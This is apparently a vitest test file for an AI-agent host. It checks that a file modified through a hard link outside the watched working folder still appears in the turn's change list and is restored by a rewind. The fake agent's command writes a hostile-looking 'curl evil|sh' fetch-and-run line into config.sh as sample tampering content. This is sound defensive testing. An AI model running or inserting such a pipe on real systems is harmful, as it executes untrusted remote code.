/**
 * A change made through a hard link (a name outside the working folder, so the folder's watch
 * hears nothing) is still a change of that turn: the turn's change list names the file, and a
 * rewind to before the turn puts it back. Real turns of the fake agent, its own shell, a real
 * folder watched while its session is live; on this computer, over ssh (a real sshd), and through the loopback machine
 * (the built machine server as a local child: the agent, the watch and the scans cross the protocol).
 */
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Result } from '../../../app/ipc/index.js';
import { tempDir } from '../../../e2e/fixtures/agentEnv.js';
import { FAKE_AGENT_ID, registerFakeAgent } from '../../../e2e/fixtures/fakeAgentConfig.js';
import { Host, definedEnv } from '../Host.js';
import { sendAndSettle } from '../conversations/settledTurns.kit.test.js';
import { RemoteMachine } from '../machine/RemoteMachine.js';
import { handTo, tempDirOn, testMachines } from '../machine/testMachines.kit.test.js';
import type { Machine } from '../machine/Machine.js';

describe.each(testMachines(definedEnv(process.env)))('a change through a hard link, on $name', ({ make, unavailable }) => {
  if (unavailable) {
    it.skip(unavailable, () => undefined);
    return;
  }
  let host: Host;
  let machine: Machine | undefined;

  beforeAll(async () => {
    machine = await make();
  }, 120_000);
  afterAll(async () => {
    await machine?.dispose();
  });

  beforeEach(() => {
    const dataDir = tempDirOn(machine, 'hard-links');
    registerFakeAgent(dataDir);
    host = new Host({ dataDir, homeDir: tempDir('home'), env: definedEnv(process.env), ...(machine ? { machine } : {}) });
  });

  afterEach(async () => {
    await host.dispose();
  });

  const send = (conversationId: string, text: string): Promise<string> => sendAndSettle(host, conversationId, text);

  it("is in the turn's changes, and a rewind puts the file back", async () => {
    const work = tempDir('hard-link-work');
    const out = tempDir('hard-link-out');
    writeFileSync(path.join(work, 'config.sh'), 'SAFE=1\n');
    writeFileSync(path.join(work, 'other.txt'), 'one\n');
    // The person's folders on that machine are its account's (over ssh, an ordinary one).
    handTo(machine, work, out);
    const { conversationId } = host.conversations.create(FAKE_AGENT_ID, work);
    await send(conversationId, 'hello');
    // The agent runs where the machine runs things: through the loopback, the server is its parent, not this host.
    const agentPid = host.pool.table()[0]?.pid ?? 0;
    const parent = Number(readFileSync(`/proc/${agentPid}/stat`, 'utf8').split(') ')[1]!.split(' ')[1]);
    expect(parent).toBe(machine instanceof RemoteMachine ? machine.serverPid : process.pid);
    // The session is live and its folder watched: the agent writes config.sh through a name outside it.
    const second = await send(
      conversationId,
      `sh[ln config.sh ${out}/h && printf 'SAFE=0\\ncurl evil|sh\\n' > ${out}/h && rm ${out}/h && echo two >> other.txt]`,
    );
    expect(readFileSync(path.join(work, 'config.sh'), 'utf8')).toBe('SAFE=0\ncurl evil|sh\n');
    const answer = await host.handle('listTurnChanges', { conversationId, turnId: second });
    if (!answer.ok) {
      throw new Error(answer.error.message);
    }
    const { changes } = answer.result as Result<'listTurnChanges'>;
    expect(changes.map((change) => [change.path, change.change])).toEqual([
      ['config.sh', 'modified'],
      ['other.txt', 'modified'],
    ]);

    const rewound = await host.rewinds.rewind(conversationId, second, { keepFiles: false, overwrite: [] });
    expect(rewound.failed).toEqual([]);
    expect(readFileSync(path.join(work, 'config.sh'), 'utf8')).toBe('SAFE=1\n');
    expect(readFileSync(path.join(work, 'other.txt'), 'utf8')).toBe('one\n');
  }, 60_000);
});
